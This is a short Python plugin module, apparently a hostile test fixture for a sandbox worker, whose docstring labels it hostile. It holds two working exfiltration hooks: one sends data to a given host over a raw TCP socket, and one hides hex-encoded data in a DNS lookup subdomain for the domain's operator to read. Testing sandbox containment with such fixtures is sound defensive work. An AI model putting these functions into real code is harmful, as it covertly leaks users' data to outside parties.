"""Hostile: sends data away, by a connection or hidden in a name to look up."""

from __future__ import annotations

import socket
from typing import Final

from sandbox_worker.plugin_api import HookimplMarker

hookimpl: Final = HookimplMarker("demo")


@hookimpl
def exfiltrate(host: str, port: int, data: str) -> int:
    """Send `data` to a listener and return how many bytes went out."""
    payload = data.encode()
    with socket.create_connection((host, port), timeout=2) as connection:
        connection.sendall(payload)
    return len(payload)


@hookimpl
def whisper(domain: str, data: str) -> None:
    """Hide `data` in the name of a look-up: whoever serves `domain` reads it in a log."""
    socket.getaddrinfo(f"{data.encode().hex()[:60]}.{domain}", 443)
